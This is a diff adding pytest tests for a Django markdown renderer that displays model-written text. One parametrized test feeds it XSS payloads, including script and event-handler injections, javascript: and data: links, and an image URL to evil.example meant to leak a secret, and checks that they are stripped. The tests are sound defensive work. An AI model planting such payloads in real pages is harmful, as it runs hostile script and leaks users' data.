@@ -1,0 +1,61 @@
+"""What a model writes cannot do more in a page than be read."""
+
+import pytest
+from django.utils.safestring import mark_safe
+from hypothesis import given
+from hypothesis import strategies as st
+
+from altiplano.web.markdown import mark_places, render_markdown
+
+
+def test_render_markdown_keeps_the_shape_of_a_text():
+    html = render_markdown("One **two**\n\n- three\n- four")
+    assert html == "<p>One <strong>two</strong></p>\n<ul>\n<li>three</li>\n<li>four</li>\n</ul>\n"
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![x](https://evil.example/?q=secret)",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        '<a href="#" onclick="alert(1)">x</a>',
+        "<svg/onload=alert(1)>",
+        "<style>body{display:none}</style>",
+    ],
+)
+def test_render_markdown_leaves_nothing_that_acts_or_loads(attack):
+    html = render_markdown(attack)
+    for opening in ("<script", "<img", "<svg", "<style", '<a href="javascript', '<a href="data'):
+        assert opening not in html
+
+
+def test_render_markdown_marks_links_as_untrusted():
+    html = render_markdown("[rules](https://example.org/rules)")
+    assert html == (
+        '<p><a href="https://example.org/rules" rel="nofollow noopener noreferrer">rules</a></p>\n'
+    )
+
+
+def test_render_markdown_puts_headings_below_those_of_the_page():
+    assert render_markdown("# Big\n## Less") == "<h3>Big</h3>\n<h4>Less</h4>\n"
+
+
+def test_render_markdown_replaces_marks_by_their_html():
+    text = mark_places("One. Two.", [(4, 0), (9, 1)])
+    html = render_markdown(text, [mark_safe("<b>1</b>"), mark_safe("<b>2</b>")])
+    assert html == "<p>One.<b>1</b> Two.<b>2</b></p>\n"
+
+
+@given(
+    st.text(max_size=200), st.lists(st.tuples(st.integers(0, 200), st.integers(0, 3)), max_size=5)
+)
+def test_mark_places_adds_marks_and_changes_nothing_else(text, places):
+    places = [(min(offset, len(text)), number) for offset, number in places]
+    marked = mark_places(text, places)
+    plain = text.replace("\ue000", " ").replace("\ue001", " ")
+    for _, number in places:
+        marked = marked.replace(f"\ue000{number}\ue001", "", 1)
+    assert marked == plain
